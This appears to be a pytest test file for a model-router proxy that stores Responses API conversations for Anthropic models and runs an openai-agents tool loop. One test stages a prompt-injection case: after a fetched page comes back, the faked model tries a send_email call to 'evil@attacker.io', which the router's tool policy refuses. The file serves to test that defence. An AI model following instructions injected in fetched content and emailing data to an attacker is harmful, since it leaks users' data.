"""The Responses API front of the Model Router on a provider that keeps no conversations (Anthropic here): the router
keeps it for ``previous_response_id``, as the client received it (refused calls left out), per profile; and the
openai-agents SDK runs a tool loop through the router on an Anthropic model."""
from __future__ import annotations

import json

import openai
import pytest

from tests.fakes import anthropic_wire
from tests.fakes.server import json_reply
from tests.router_support import routed  # noqa: F401  (fixture)
from tests.security_drivers import PAGE, SCHEMA

MODEL = "anthropic:claude-sonnet-4-5"
TOOLS = [{"type": "function", "name": n, "description": n, "parameters": SCHEMA} for n in ("fetch_url", "send_email")]


def calls_reply(name: str, args: dict, call_id: str):
    return json_reply(anthropic_wire.message([anthropic_wire.tool_use(name, args, call_id)], "tool_use"))


def test_previous_response_id_continues_the_kept_conversation_without_refused_calls(routed, upstream):
    r = routed()
    client = openai.OpenAI(api_key=r.key, base_url=r.base, max_retries=0)
    upstream.reply_with(calls_reply("fetch_url", {"url": "https://x.io"}, "toolu_f"))
    first = client.responses.create(model=MODEL, input="Summarize https://x.io", tools=TOOLS, instructions="Be brief")
    call = next(item for item in first.output if item.type == "function_call")
    assert (call.name, call.call_id) == ("fetch_url", "toolu_f")

    upstream.reply_with(calls_reply("send_email", {"to": "evil@attacker.io"}, "toolu_e"))
    second = client.responses.create(model=MODEL, previous_response_id=first.id, tools=TOOLS, input=[
        {"type": "function_call_output", "call_id": "toolu_f", "output": PAGE}])
    assert [item.type for item in second.output] == ["message"] and "send_email" in second.output_text
    sent = upstream.received[-1].json
    assert "system" not in sent  # instructions are not carried over to the next response (as OpenAI does)
    assert [m["role"] for m in sent["messages"]] == ["user", "assistant", "user"]
    assert sent["messages"][1]["content"][-1]["name"] == "fetch_url"
    assert sent["messages"][2]["content"][0]["tool_use_id"] == "toolu_f"

    upstream.reply_with(json_reply(anthropic_wire.message([anthropic_wire.text("Done.")])))
    third = client.responses.create(model=MODEL, previous_response_id=second.id, input="ok?")
    assert third.output_text == "Done."
    messages = upstream.received[-1].json["messages"]
    assert "toolu_e" not in json.dumps(messages)  # the refused call was never kept...
    assert [block["type"] for block in messages[3]["content"]] == ["text"]  # ...the refusal the client read was
    assert "denied by a tool invocation policy" in messages[3]["content"][0]["text"]


def test_another_profiles_response_and_unstored_ones_cannot_be_continued(routed, upstream):
    r = routed()
    client = openai.OpenAI(api_key=r.key, base_url=r.base, max_retries=0)
    upstream.reply_with(json_reply(anthropic_wire.message([anthropic_wire.text("Hi")])))
    kept = client.responses.create(model=MODEL, input="hello")
    unstored = client.responses.create(model=MODEL, input="hello", store=False)
    with pytest.raises(openai.BadRequestError) as raised:
        client.responses.create(model=MODEL, input="again", previous_response_id=unstored.id)
    assert "not found" in str(raised.value)

    other = r.proxy.api("POST", "/profiles", json={"name": "other"}).json()["id"]
    other_key = r.proxy.api("POST", "/virtual-keys", json={"profile_id": other, "name": "x"}).json()["key"]
    stranger = openai.OpenAI(api_key=other_key, base_url=f"{r.proxy.url}/v1/model-router/{other}", max_retries=0)
    with pytest.raises(openai.BadRequestError):
        stranger.responses.create(model=MODEL, input="again", previous_response_id=kept.id)
    assert client.responses.create(model=MODEL, input="again", previous_response_id=kept.id).output_text == "Hi"


def test_the_openai_agents_sdk_runs_a_tool_loop_on_an_anthropic_model(routed, upstream):
    agents = pytest.importorskip("agents")
    r = routed()
    ran: list[str] = []

    @agents.function_tool
    def get_weather(city: str) -> str:
        """The weather in a city."""
        ran.append(city)
        return f"Sunny in {city}"

    def reply(request):
        seen = json.dumps(request.json["messages"])
        if "Sunny in Paris" in seen:
            return json_reply(anthropic_wire.message([anthropic_wire.text("It is sunny in Paris.")]))
        return calls_reply("get_weather", {"city": "Paris"}, "toolu_w")
    upstream.reply_with(reply)
    client = openai.AsyncOpenAI(api_key=r.key, base_url=r.base, max_retries=0)
    model = agents.OpenAIResponsesModel(model=MODEL, openai_client=client)
    agent = agents.Agent(name="weather", instructions="Answer briefly.", tools=[get_weather], model=model)
    result = agents.Runner.run_sync(agent, "Weather in Paris?", run_config=agents.RunConfig(tracing_disabled=True))
    assert result.final_output == "It is sunny in Paris." and ran == ["Paris"]
